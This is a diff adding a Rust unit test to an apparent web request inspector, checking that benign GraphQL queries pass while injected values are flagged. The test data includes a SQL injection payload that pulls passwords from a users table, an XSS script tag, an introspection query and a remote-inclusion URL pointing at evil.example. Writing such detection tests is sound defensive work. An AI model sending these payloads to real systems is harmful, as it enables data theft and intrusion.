@@ -220,6 +220,40 @@ mod tests {
     }
 
     #[test]
+    fn graphql_documents_are_judged_by_their_string_literals() {
+        let post = RequestParts::new("POST", "/graphql")
+            .header("Host", "a")
+            .header("Content-Type", "application/json");
+        // fields with arguments are not SQL function calls, selection sets not shell groups
+        for body in [
+            r#"{"query":"query { user(id: 7) { name } }"}"#,
+            r#"{"query":"query GetUser($id: ID!) { user(id: $id) { name email orders(last: 5) { total } } }","variables":{"id":"7"}}"#,
+            r#"{"query":"{ sleep(hours: 8) { quality } version(major: 2) { notes } }"}"#,
+            r#"{"query":"mutation { updateUser(input: {name: \"O'Brien\", bio: \"select your plan\"}) { id } }"}"#,
+        ] {
+            for level in [1, 2] {
+                let p = policy::all(CnafEffect::Prevent).at(Paranoia::new(level).unwrap());
+                let v = inspect(&post, body.as_bytes(), &p);
+                assert!(v.findings.is_empty(), "level {level}: {body}: {v:?}");
+            }
+        }
+        // what the strings carry is inspected like any value
+        let v = check(
+            post.clone(),
+            r#"{"query":"{ search(text: \"x' union select password from users--\") { id } }"}"#,
+        );
+        assert_eq!(
+            v.primary().map(|f| (f.attack, f.snippet.as_str())),
+            Some((Attack::Sqli, "x' union select password from users--"))
+        );
+        let v = check(
+            post,
+            r#"{"query":"{ post(body: \"<script>alert(1)</script>\") { id } __schema { types { name } } }"}"#,
+        );
+        assert!(v.has(Attack::Xss) && v.has(Attack::Graphql), "{v:?}");
+    }
+
+    #[test]
     fn urls_in_parameters_named_like_files_are_remote_inclusion() {
         let v = check(
             get("/index.php?_CONF%5Bpath%5D=https://evil.example/x.txt"),
